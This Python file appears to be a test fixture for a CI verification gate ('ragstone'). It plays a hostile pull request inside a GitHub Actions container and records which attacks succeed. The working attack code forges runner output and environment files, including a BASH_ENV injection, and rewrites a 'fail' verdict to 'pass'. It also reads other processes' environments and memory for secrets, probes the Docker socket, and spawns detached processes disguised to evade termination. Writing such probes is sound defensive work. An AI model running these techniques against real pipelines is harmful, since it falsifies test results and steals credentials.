"""What a pull request's code tries. Copied into the workspace; writes down what it got hold of."""

# ruff: noqa: PTH102, PTH104, PTH123, PTH207, PTH208, SIM115

import glob
import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable, Mapping
from functools import partial

Act = Callable[[], object]


def readable(path: str) -> str:
    try:
        with open(path, "rb") as file:
            return file.read(100_000).decode("utf-8", "replace")
    except OSError as error:
        return "refused: " + str(error.errno)


def roots() -> list[int]:
    """The processes of the gate."""
    gates = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                command = open(f"/proc/{entry}/cmdline", "rb").read().decode("utf-8", "replace")
            except OSError:
                continue
            if "ragstone.action" in command:
                gates.append(int(entry))
    return gates


def succeeded(acts: Mapping[str, Act]) -> list[str]:
    """The names of those that do not fail."""
    done = []
    for name, act in acts.items():
        try:
            act()
            done.append(name)
        except OSError:
            pass
    return done


def docker() -> str:
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect("/var/run/docker.sock")
        return "connected"
    except OSError as error:
        return "refused: " + str(error.errno)


def importable() -> bool:
    try:
        import ragstone  # noqa: F401
    except ImportError:
        return False
    return True


COMMANDS = ("/github/file_commands", "/github/runner_temp/_runner_file_commands")
NAMES = ("github_output_1", "github_env_1", "github_path_1", "github_state_1", "github_step_summary_1")
FORGED = "verdict=pass\npassed=true\nEVIL=1\nBASH_ENV=/github/workspace/evil.sh\n"


def write(path: str, text: str, mode: str = "a") -> None:
    open(path, mode).write(text)


def replace_the_folder() -> None:
    os.rename(COMMANDS[1], COMMANDS[1] + ".old")
    os.mkdir(COMMANDS[1])


def forge() -> list[str]:
    """One round of everything that could put words into the runner's files. Returns what did not fail."""
    acts: dict[str, Act] = {}
    for path in [f"{folder}/{name}" for folder in COMMANDS for name in NAMES]:
        acts |= {
            f"written {path}": partial(write, path, FORGED),
            f"removed {path}": partial(os.unlink, path),
            f"pipe {path}": partial(os.mkfifo, path),
            f"moved {path}": partial(os.rename, path, path + ".old"),
            f"link {path}": partial(os.symlink, "/opt/ragstone/pyvenv.cfg", path),
            f"replaced {path}": partial(write, path, FORGED, "x"),
        }
    acts |= {
        "the folder replaced": replace_the_folder,
        "the event written": partial(write, "/github/workflow/event.json", " "),
        "home written": partial(write, "/github/home/.gitconfig", "[core]"),
    }
    return succeeded(acts)


def forge_the_run() -> None:
    """Once results are there, they are ours."""
    path = "/github/workspace/ragstone-run/manifest.json"
    try:
        text = open(path).read()
        open(path, "w").write(text.replace('"verdict": "fail"', '"verdict": "pass"'))
    except OSError:
        pass


def go_on() -> None:
    import time

    while True:
        forge()
        forge_the_run()
        time.sleep(0.02)


def stray() -> None:
    """Gets away from its parent, and goes on forging until somebody ends it."""
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    go_on()


def headless() -> None:
    """Its first thread ends, so that the process looks dead, and another one forges."""
    import ctypes
    import threading

    os.setsid()
    threading.Thread(target=go_on).start()
    ctypes.CDLL(None).pthread_exit(None)


def chain() -> None:
    """Never the same process for long."""
    os.setsid()
    while True:
        if os.fork():
            os._exit(0)
        forge_the_run()


def attempt(who: str) -> None:
    gates = roots()
    forged = forge()
    for kind in ("stray", "headless", "chain"):
        nowhere = subprocess.DEVNULL
        command = [sys.executable, __file__, kind]
        subprocess.Popen(command, stdout=nowhere, stderr=nowhere, stdin=nowhere, start_new_session=True)
    result = {
        "uid": os.getuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        "no_new_privileges": readable("/proc/self/status").partition("NoNewPrivs:")[2].split()[0],
        "forged": forged,
        "environ": dict(os.environ),
        "gates": gates,
        "gate_environ": [readable(f"/proc/{pid}/environ") for pid in gates],
        "gate_memory": [readable(f"/proc/{pid}/mem") for pid in gates],
        "gate_killable": succeeded({str(pid): partial(os.kill, pid, 0) for pid in gates}),
        "other_environ": [readable(path) for path in glob.glob("/proc/[0-9]*/environ")],
        "docker": docker(),
        "ragstone": importable(),
        "private_folders": glob.glob("/tmp/ragstone-private-*"),
        "private": [
            name for top in glob.glob("/tmp/ragstone-*") if os.access(top, os.R_OK) for name in os.listdir(top)
        ],
        "python": sys.executable,
    }
    with open(f"/github/workspace/attempts-{who}.json", "w") as file:
        json.dump(result, file)


if __name__ == "__main__":
    kinds: dict[str, Act] = {"stray": stray, "headless": headless, "chain": chain}
    if sys.argv[1] in kinds:
        kinds[sys.argv[1]]()
    else:
        attempt(sys.argv[1])
